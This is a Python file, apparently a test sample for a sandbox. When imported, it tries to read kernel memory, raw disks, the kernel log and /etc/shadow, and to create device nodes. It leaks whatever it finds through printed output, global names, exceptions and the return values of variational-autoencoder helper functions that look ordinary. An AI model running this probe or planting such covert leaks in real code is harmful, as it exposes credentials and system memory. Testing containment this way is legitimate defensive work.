"""Opens the machine's memory, disks and kernel log as files, and makes device files of its own."""
# expects: full

import glob
import os
import stat

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    disks = glob.glob("/dev/[shv]d[a-z]*") + glob.glob("/dev/nvme*") + glob.glob("/dev/dm-*")
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/etc/shadow", *disks):
        if (opened := tried(os.open, path, os.O_RDONLY | os.O_NONBLOCK)) is not None:
            publish(f"ESCAPED {path} {tried(os.read, opened, 16)}")
    for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 8, 0)):
        tried(os.mknod, "device", kind | 0o666, os.makedev(major, minor))
        if (opened := tried(os.open, "device", os.O_RDONLY | os.O_NONBLOCK)) is not None:
            publish(f"ESCAPED own device {tried(os.read, opened, 16)}")
        tried(os.unlink, "device")
    for path in (
        "/dev/tty",
        "/dev/ptmx",
        "/dev/console",
        "/dev/fuse",
        "/dev/kvm",
        "/dev/net/tun",
        "/dev/vhost-net",
    ):
        tried(os.open, path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
